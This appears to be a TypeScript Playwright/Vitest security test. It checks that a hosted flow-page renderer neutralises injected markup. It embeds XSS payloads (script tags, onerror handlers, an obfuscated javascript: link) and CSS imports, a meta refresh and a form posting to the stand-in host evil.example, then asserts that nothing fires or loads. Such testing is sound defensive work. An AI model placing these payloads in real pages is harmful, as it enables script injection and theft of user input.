// @module-tag slow
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { findChromium } from '#testing/browser/findChromium';
import { startServer } from '#testing/startServer';
import { flowsOn } from '#plugins/runtime/server/testRuns';

let sluice: Awaited<ReturnType<typeof startServer>>;
let runs: ReturnType<typeof flowsOn>;
let address = '';
let browser: Browser;
beforeAll(async () => {
  sluice = await startServer();
  runs = flowsOn(sluice);
  address = await sluice.listen();
  browser = await chromium.launch(await findChromium());
});
afterAll(async () => {
  await browser.close();
  await sluice.close();
});

const markup = '</style></title></textarea><script>alert(1)</script><img src=x onerror="alert(2)">';
const css = `@import url(//evil.example/b.css); </style><script>alert(3)</script>`;
const page = [
  `<h1>Hello {{said}}</h1>${markup}`,
  '<a id="link" href="java&#10;script:alert(4)">Link</a>',
  `<style>${css}</style><link rel="stylesheet" href="https://evil.example/c.css">`,
  '<svg><style>@import "https://evil.example/d.css"</style></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form id="f" action="https://evil.example/steal"><label>Name <input name="who"></label>',
  '<button data-skcomponent="skbutton" data-skform="f">Go on</button></form>',
].join('');

it('runs, loads, and sends nothing because of markup in texts, styles, and names', async () => {
  const { companyId, policyId } = await runs.flowOf(
    {
      first: [
        'httpConnector',
        'customHTMLTemplate',
        {
          customHTML: page,
          customCSS: css,
          said: markup,
          formFieldsList: [{ propertyName: 'who' }],
        },
      ],
      done: [
        'httpConnector',
        'createSuccessResponse',
        {
          claimsNameValuePairs: [
            { name: 'message', value: `${markup}{{local.first.payload.output.who}}` },
          ],
        },
      ],
    },
    [['first', 'done']],
    { name: markup, settings: { useCustomCSS: true, css, customTitle: markup } },
  );
  const reader = await browser.newPage();
  const seen: string[] = [];
  reader.on('dialog', dialog => {
    seen.push(`dialog ${dialog.message()}`);
    return dialog.dismiss();
  });
  await reader.route(/evil\.example/, route => {
    seen.push(route.request().url());
    return route.abort();
  });
  await reader.goto(`${address}/hosted/${companyId}/policy/${policyId}`);
  await reader.getByRole('heading', { name: `Hello ${markup}` }).waitFor();
  await reader.locator('#link').click();
  await reader.getByLabel('Name').fill(markup);
  await reader.getByRole('button', { name: 'Go on' }).click();
  await reader.getByText(`${markup}${markup}`).waitFor();
  expect(new URL(reader.url()).hostname).toMatch(/\.localhost$/);
  expect(seen).toEqual([]);
});
